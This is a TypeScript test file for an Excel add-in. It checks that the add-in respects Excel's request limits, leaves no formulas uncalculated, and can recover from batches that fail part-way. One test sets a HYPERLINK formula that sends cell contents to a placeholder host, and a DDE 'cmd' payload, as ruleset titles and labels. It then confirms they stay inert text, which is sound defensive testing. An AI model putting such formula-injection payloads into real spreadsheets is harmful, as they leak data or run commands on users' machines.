/**
 * Issue 11 against the recording fake (test/excel/fake-excel.ts), which models what broke:
 * Excel's 5,000,000-cell and 5 MB limits per request, text written with Range.values that Excel
 * reads as a formula, API calculation left suspended, and a batch that fails part-way (operations
 * before the failure applied, none after).
 */
import { describe, expect, it } from 'vitest';
import { compileRuleset } from '../../src/core';
import { clearMarks, createRulesetSheet, createScorecard, createTemplate, markFindings, readSourceTable } from './pane-on-fake';
import { MARK_BATCH_BYTES } from '../../src/excel/office-host';
import { type RulesetRef, proposeMapping } from '../../src/taskpane/actions';
import { builtInRuleset } from '../../src/rulesets';
import { chengduSheet } from './data';
import { FakeWorkbook, NO_FILL } from './fake-excel';

const chengdu = builtInRuleset('chengdu2006');
const township = builtInRuleset('township2022');
const CHENGDU: RulesetRef = { kind: 'builtin', id: 'chengdu2006' };
const SLOW = 120_000;

async function run<T>(book: FakeWorkbook, action: (context: Excel.RequestContext) => Promise<T>): Promise<{ value: T; syncs: number }> {
  const before = book.syncs;
  const value = await action(book.context().context);
  return { value, syncs: book.syncs - before };
}

describe('11.9 text that Excel would read as a formula stays text', { timeout: SLOW }, () => {
  const TITLE = '+HYPERLINK("http://example.invalid/"&数据!A1,"标题")';
  const LABEL = "+cmd|' /C calc'!A0";
  const hostile = compileRuleset({
    ...chengdu.spec,
    id: 'hostile',
    title: TITLE,
    items: chengdu.spec.items.map((item, k) => (k === 0 ? { ...item, label: LABEL } : item)),
    units: [{ label: '=1+1' }, { label: '-5' }, ...(chengdu.spec.units ?? []).slice(2)],
  } as Parameters<typeof compileRuleset>[0]);

  it('template, scorecard and ruleset sheets hold hostile titles, labels and headers as text; numbers stay numbers', async () => {
    const values = chengduSheet(10).map((row) => [...row]);
    const header = values.findIndex((row) => row.includes('序号'));
    values[header][10] = '-扣分备注'; // a column inside the mapped block: shown under 原表头
    const book = new FakeWorkbook().setSource({ sheet: '数据', values });
    const template = await run(book, (context) => createTemplate(context, hostile, { kind: 'builtin', id: 'hostile' }));
    const source = (await run(book, readSourceTable)).value;
    const card = await run(book, (context) => createScorecard(context, { ruleset: chengdu, rulesetRef: CHENGDU, source, mapping: proposeMapping(chengdu, source) }));
    const rules = await run(book, (context) => createRulesetSheet(context, hostile));
    expect(book.interpreted).toEqual([]);
    // The title without the ruleset id (issue 22.4: the id is a code; it is in the formulas).
    expect(book.cellOf(template.value.sheet, 'A1')).toMatchObject({ formula: null, value: `${TITLE}　录入表`, numberFormat: '@' });
    expect(book.cellOf(template.value.sheet, 'A3')).toMatchObject({ formula: null, value: '=1+1' });
    expect(book.cellOf(template.value.sheet, 'A4')).toMatchObject({ formula: null, value: '-5' });
    const cardCells = [...book.sheet(card.value.sheet)!.cells.values()];
    expect(cardCells.some((cell) => cell.value === '-扣分备注' && cell.formula === null)).toBe(true);
    const ruleCells = [...book.sheet(rules.value.sheet)!.cells.values()];
    expect(ruleCells.some((cell) => cell.value === TITLE && cell.formula === null)).toBe(true);
    expect(ruleCells.some((cell) => cell.value === LABEL && cell.formula === null)).toBe(true);
    // Numbers in the ruleset table are numbers in General cells.
    expect(ruleCells.some((cell) => typeof cell.value === 'number' && cell.numberFormat === 'General')).toBe(true);
    // Formulas the pane writes are still formulas.
    expect(book.cellOf(card.value.sheet, 'A4')?.formula).toMatch(/^=IF\(ISBLANK/);
  });
});

describe('11.3 large selections are read within Excel\'s limits', { timeout: SLOW }, () => {
  it('whole columns selected (A:AA, ~28 M cells): only the part inside the used range is read', async () => {
    const book = new FakeWorkbook().setSource({ sheet: '数据', values: chengduSheet(10_000), selection: 'columns' });
    const { value } = await run(book, readSourceTable);
    expect(value.address).toBe('数据!A1:AA10004');
    expect(value.values).toHaveLength(10_004);
    expect(value.values[10_003][1]).toBe(chengduSheet(10_000)[10_003][1]);
  });

  it('60,000 units (1.6 M cells, > 5 MB of values) are read in chunks, each response under 5 MB', async () => {
    const values = chengduSheet(60_000);
    const book = new FakeWorkbook().setSource({ sheet: '数据', values });
    const { value, syncs } = await run(book, readSourceTable);
    expect(value.values).toEqual(values);
    expect(syncs).toBeGreaterThan(2);
    expect(Math.max(...book.batches.map((b) => b.readBytes))).toBeLessThan(5 * 1024 * 1024);
  });
});

describe('11.4 nothing is left uncalculated', { timeout: SLOW }, () => {
  it('createScorecard and createTemplate leave no formula written under suspended API calculation without a recalculation', async () => {
    const book = new FakeWorkbook().setSource({ sheet: '数据', values: chengduSheet(10) });
    const source = (await run(book, readSourceTable)).value;
    await run(book, (context) => createScorecard(context, { ruleset: chengdu, rulesetRef: CHENGDU, source, mapping: proposeMapping(chengdu, source) }));
    await run(book, (context) => createTemplate(context, chengdu, CHENGDU));
    expect(book.uncalculated).toEqual([]);
  });
});

describe('11.5 validate in place cannot half-fail', { timeout: SLOW }, () => {
  function townships(units: number): FakeWorkbook {
    const header = ['单位', '1.1', '4.6', '5.1', '5.6', '3.1', '3.9', '5.3', '5.4', '5.7', '6.1', '1.2', '5.2.video'];
    const rows = [header, ...Array.from({ length: units }, (_, k) => [`乡镇${k + 1}`, 3, '', 1, '', (k % 21) + 1, 0.985, 1, 1, '是', '', k % 3, k % 2])];
    return new FakeWorkbook().setSource({ sheet: '等级评定', values: rows });
  }

  it('marks go in batches under MARK_BATCH_BYTES, the undo record first', async () => {
    const book = townships(3000);
    const before = book.batches.length;
    const { value } = await run(book, (context) => markFindings(context, township));
    expect(value.marked).toBe(2000);
    const writes = book.batches.slice(before).map((b) => b.writeBytes).filter((n) => n > 0);
    expect(writes.length).toBeGreaterThan(1);
    for (const n of writes) expect(n).toBeLessThan(MARK_BATCH_BYTES + 64 * 1024);
    const saved = JSON.parse(String(book.marksRecordText())) as { cells: unknown[] };
    expect(saved.cells).toHaveLength(2000);
  });

  for (const after of [0, 1, 700, 2500]) {
    it(`a failure after ${after} writes of the marks leaves every marked cell restorable by clearMarks`, async () => {
      const book = townships(3000);
      book.setFill('等级评定', 'C2', { color: '#C6EFCE', pattern: 'Solid' }); // a clerk's fill on a finding cell (4.6 of 乡镇1)
      const probe = townships(3000);
      await run(probe, (context) => markFindings(context, township));
      // Fail in the write phase: the reads take the same syncs in both books.
      const fillsBefore = new Map(book.sheet('等级评定')!.fills);
      const syncsBeforeWrites = probe.batches.findIndex((b) => b.writeBytes > 0);
      let failed = false;
      const context = book.context().context;
      const sync = context.sync.bind(context);
      let n = 0;
      (context as unknown as { sync: () => Promise<void> }).sync = async () => {
        if (n++ === syncsBeforeWrites - 1) book.failAfterWrites(after);
        return sync();
      };
      await markFindings(context, township).catch(() => {
        failed = true;
      });
      expect(failed).toBe(true);
      const marked = [...book.sheet('等级评定')!.fills.keys()].filter((cell) => !fillsBefore.has(cell) || book.fillOf('等级评定', cell).color !== fillsBefore.get(cell)?.color);
      if (after > 1) expect(marked.length).toBeGreaterThan(0);
      await run(book, clearMarks);
      expect(new Map(book.sheet('等级评定')!.fills)).toEqual(fillsBefore);
      expect(book.fillOf('等级评定', 'C2')).toEqual({ color: '#C6EFCE', pattern: 'Solid' });
      expect(book.comments).toEqual([]);
      expect(book.fillOf('等级评定', 'E3')).toEqual(NO_FILL);
    });
  }
});
